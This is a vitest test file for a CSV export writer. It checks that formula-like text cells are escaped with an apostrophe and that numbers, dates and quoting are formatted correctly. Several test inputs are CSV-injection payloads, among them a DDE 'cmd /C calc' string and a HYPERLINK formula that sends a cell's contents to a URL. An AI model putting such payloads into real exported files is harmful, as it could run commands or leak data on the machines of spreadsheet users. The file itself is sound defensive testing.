import { describe, expect, test } from 'vitest';
import { calendarDate, toCsv } from '@/lib/exports/tabular';

// The one CSV writer (lib/exports/tabular.ts, docs/decisions/032-one-csv-writer-and-safe-callbacks.md): a text cell
// a spreadsheet would read as a formula is written with a leading apostrophe; typed numbers and dates stay as they
// are; quoting is RFC 4180.

const row = (value: string | number) => toCsv({ columns: ['a'], rows: [{ a: value }] }).split('\n')[1];

describe('text that a spreadsheet would run as a formula is neutralised', () => {
  test.each([
    ['=HYPERLINK("http://x?x="&B2)', `"'=HYPERLINK(""http://x?x=""&B2)"`],
    ["-2+3+cmd|' /C calc'!A0", `'-2+3+cmd|' /C calc'!A0`],
    ['+1', "'+1"],
    ['-5', "'-5"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['=1,2', `"'=1,2"`],
  ])('%j → %j', (value, expected) => {
    expect(row(value)).toBe(expected);
  });

  test('header cells too', () => {
    expect(toCsv({ columns: ['=cmd'], rows: [] })).toBe("'=cmd\n");
  });

  test('text that only contains those characters later is left as it is', () => {
    expect(row('Nga My - Tương Dương')).toBe('Nga My - Tương Dương');
    expect(row('a=b')).toBe('a=b');
    expect(row('mail@example.vn')).toBe('mail@example.vn');
    expect(row('')).toBe('');
  });
});

describe('typed cells keep their value', () => {
  test('integers, negative ones included, are written plain', () => {
    expect(toCsv({ columns: ['quota', 'difference'], rows: [{ quota: 37, difference: -11 }] })).toBe('quota,difference\n37,-11\n');
  });

  test("a decimal is written with '.' and two places", () => {
    expect(row(2.5)).toBe('2.50');
    expect(row(-0.125)).toBe('-0.13');
    expect(row(1 / 3)).toBe('0.33');
  });

  test('a number that is not finite is a bug, not a cell', () => {
    expect(() => row(Number.NaN)).toThrow();
    expect(() => row(Number.POSITIVE_INFINITY)).toThrow();
  });

  test('dates are dd/MM/yyyy', () => {
    expect(toCsv({ columns: ['d'], rows: [{ d: calendarDate('2025-10-01') }] })).toBe('d\n01/10/2025\n');
  });
});
